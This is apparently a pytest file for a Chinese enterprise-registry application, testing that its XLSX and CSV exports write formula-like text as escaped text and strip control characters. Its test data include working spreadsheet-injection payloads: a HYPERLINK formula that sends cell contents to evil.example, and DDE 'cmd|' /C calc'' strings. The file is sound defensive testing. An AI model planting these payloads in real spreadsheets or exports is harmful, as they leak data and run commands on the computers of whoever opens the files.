"""Formula injection and control characters on the way out (issue 13.2, 13.3):
every text cell keqi writes is text, never a live formula, and export → import
gives back the original text exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from keqi.core.exports import ListExport, list_workbook, sheet_cell
from keqi.core.testing import load_baodi, make_enterprise
from keqi.registry.models import Enterprise
from keqi.registry.tests.workbook_helpers import E1, E2, E3, content
from keqi.registry.workbook import (
    export_registry,
    import_workbook,
    registry_tables,
    xlsx_bytes,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'引号开头的文字",
]


@pytest.fixture(autouse=True)
def areas(db: None) -> None:
    load_baodi()


def hostile_csv(folder: Path) -> Path:
    """Three enterprises named with formulas, one extra column holding another."""
    folder.mkdir()
    with (folder / "企业基本信息.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(
            ["统一社会信用代码", "企业名称", "成立日期", "所属街镇/园区", "备注"]
        )
        writer.writerow([E1, HOSTILE[0], "2012-03-15", "大口屯镇", HOSTILE[4]])
        writer.writerow([E2, HOSTILE[1], "2016-07-01", "口东镇", HOSTILE[5]])
        writer.writerow([E3, HOSTILE[2], "2017-01-01", "口东镇", HOSTILE[3]])
    return folder


def cells_of(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))  # not read-only: formulas stay formulas
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_names_imported_as_formulas_are_exported_as_text(tmp_path: Path) -> None:
    assert import_workbook(hostile_csv(tmp_path / "in"), actor=None).ok
    names = dict(Enterprise.objects.values_list("uscc", "name"))
    assert names[E1] == HOSTILE[0] and names[E2] == HOSTILE[1]  # stored as typed
    found = cells_of(xlsx_bytes(registry_tables(Enterprise.objects.all())))
    assert all(cell.data_type != "f" for cell in found)
    texts = {cell.value for cell in found if isinstance(cell.value, str)}
    assert "'" + HOSTILE[1] in texts and "'" + HOSTILE[5] in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)


@pytest.mark.parametrize("target", ["导出.xlsx", "导出"])  # .xlsx and a CSV folder
def test_export_then_import_keeps_formula_like_text_exactly(
    tmp_path: Path, target: str
) -> None:
    assert import_workbook(hostile_csv(tmp_path / "in"), actor=None).ok
    before = content()
    export_registry(tmp_path / target, Enterprise.objects.all())
    again = import_workbook(tmp_path / target, actor=None)
    assert again.ok and not again.changed, again.errors
    assert content() == before
    extra = Enterprise.objects.get(uscc=E2).extra
    assert extra == {"备注": HOSTILE[5]}


def test_a_csv_export_starts_no_cell_with_a_formula_character(tmp_path: Path) -> None:
    assert import_workbook(hostile_csv(tmp_path / "in"), actor=None).ok
    export_registry(tmp_path / "out", Enterprise.objects.all())
    text = (tmp_path / "out" / "企业基本信息.csv").read_text(encoding="utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text)) for v in row]
    assert "'" + HOSTILE[0] in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)


def test_old_rows_holding_control_characters_export_without_them() -> None:
    firm = make_enterprise("dakoutun")
    # (PostgreSQL cannot store NUL at all; BEL and ESC got in before input refused them)
    Enterprise.objects.filter(pk=firm.pk).update(name="宏远\x07科技\x1b有限公司")
    data = xlsx_bytes(registry_tables(Enterprise.objects.all()))  # was a 500
    names = [c.value for c in cells_of(data) if c.column == 2 and c.row == 2]
    assert names == ["宏远科技有限公司"]


def test_every_list_download_writes_text_cells_as_text() -> None:
    export = ListExport(
        title="企业名单",
        columns=[("企业名称", lambda r: r[0]), ("销售收入", lambda r: r[1])],
        rows=[(HOSTILE[1], -12), ("-12.5", 3), ("普通\x07名称", 0)],
        filters=[("关键词", "=1+1")],
    )
    book = list_workbook(export, "hq（区科技局）", 7)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + HOSTILE[1] in values and "'=1+1" in values
    assert -12 in values and "-12.5" in values  # numbers are left alone
    assert "普通名称" in values


def test_plain_text_and_non_text_values_are_left_alone() -> None:
    assert sheet_cell("宏远科技") == "宏远科技"
    assert sheet_cell("-3.5") == "-3.5" and sheet_cell("-1,234.5%") == "-1,234.5%"
    assert sheet_cell("-3.5+cmd|' /C calc'!A0") == "'-3.5+cmd|' /C calc'!A0"
    assert sheet_cell(None) is None and sheet_cell(5) == 5
    assert sheet_cell("@宏远") == "'@宏远"


def test_the_evaluation_workbook_writes_formula_like_names_as_text(
    tmp_path: Path,
) -> None:
    from keqi.cli import main

    target = tmp_path / "评价.xlsx"
    folder = hostile_csv(tmp_path / "in")
    args = ["evaluate", str(folder), "--as-of", "2019-06-30", "--format", "xlsx"]
    assert main([*args, "--output", str(target)]) == 0
    found = cells_of(target.read_bytes())
    assert all(cell.data_type != "f" for cell in found)
    assert "'" + HOSTILE[1] in {cell.value for cell in found}
